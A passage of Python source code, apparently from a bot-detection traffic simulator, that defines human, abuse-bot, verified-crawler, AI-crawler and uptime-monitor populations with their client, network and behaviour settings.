        group="hard_human",
        pace=1.3,
    )
    out.append(Population(
        "accessibility", "human", "hard_human", shopper,
        {0: ((0.35, Actor(clients=p.text_browser(), network="residential", assets=False,
                          landing_cross=0.0)),
             (0.65, Actor(clients=p.family("chrome_desktop") + p.family("safari_mac"),
                          network="residential", pace=2.5)))},
        sends="Lynx (text only: no assets, its own Accept) and screen-reader users (slow, "
              "sequential reading)",
        why="assistive technology changes what and how fast people request"))  # fmt: skip
    human(
        "mobile_app",
        p.app_clients(),
        "the shop's iOS (CFNetwork) and Android (OkHttp) apps: JSON API with bearer tokens",
        "a mobile app's API client is a person, though its UA names a library",
        network="mobile",
        group="hard_human",
        behaviour=app_user,
    )

    for subtype in SUBTYPES:
        levels, sends, why = _ABUSE[subtype]
        level1 = _LEVEL1.get(subtype, p.libraries)()
        actors = _abuse_actors(level1, cookies_at_1=subtype in ("cashing_out", "credit_card_abuse"))
        out.append(Population(subtype, "bot", "abuse", BEHAVIOURS[subtype], actors, levels,
                              subtype=subtype, sends=sends, why=why))  # fmt: skip

    def good(name: str, group: str, clients: tuple[Client, ...], network: str,
             behaviour: Behaviour, sends: str, why: str, shared: int = 0) -> None:  # fmt: skip
        actor = Actor(clients=clients, network=network, assets=False, cookies=False,
                      referers=False)  # fmt: skip
        out.append(Population(name, "bot", group, behaviour, {0: ((1.0, actor),)},
                              sends=sends, why=why, shared_addresses=shared))  # fmt: skip

    good(
        "googlebot",
        "verified_bot",
        p.googlebots(),
        "google-googlebot",
        crawler,
        "Googlebot smartphone/desktop from Google's published Googlebot ranges: robots.txt, "
        "sitemap, pages",
        "verifies against the same list the verified-bot engine uses",
    )
    good(
        "bingbot",
        "verified_bot",
        p.bingbots(),
        "bing-bingbot",
        crawler,
        "bingbot from Microsoft's published ranges",
        "a second verifiable search crawler",
    )
    good(
        "gptbot",
        "verified_bot",
        p.gptbots(),
        "openai-gptbot",
        crawler,
        "GPTBot from OpenAI's published ranges",
        "an AI crawler whose operator publishes IPs",
    )
    good(
        "ai_crawler",
        "ai_crawler",
        p.ai_crawlers(),
        "hosting",
        crawler,
        "ClaudeBot, Bytespider, meta-externalagent, AI2Bot, Cohere from cloud ranges, "
        "some ignoring robots.txt and crawling fast",
        "declared but unverifiable: their operators publish no IP list",
    )
    good("monitoring", "monitoring", p.monitors(), "hosting", monitor,
         "UptimeRobot, Pingdom, Datadog Synthetics, StatusCake, Better Uptime: GET/HEAD / or "
         "/healthz every 1 or 5 minutes", "uptime services poll from a few fixed addresses",
         shared=12)  # fmt: skip
    return {pop.name: pop for pop in out}


@functools.cache
def client_index() -> dict[str, Client]:
    """Every client of every population, by key (what event rows name in `client`)."""
    out: dict[str, Client] = {}
    for pop in populations().values():
        for weighted in pop.actors.values():
            for _, actor in weighted:
                for client in actor.clients:
                    out.setdefault(client.key, client)
    return out
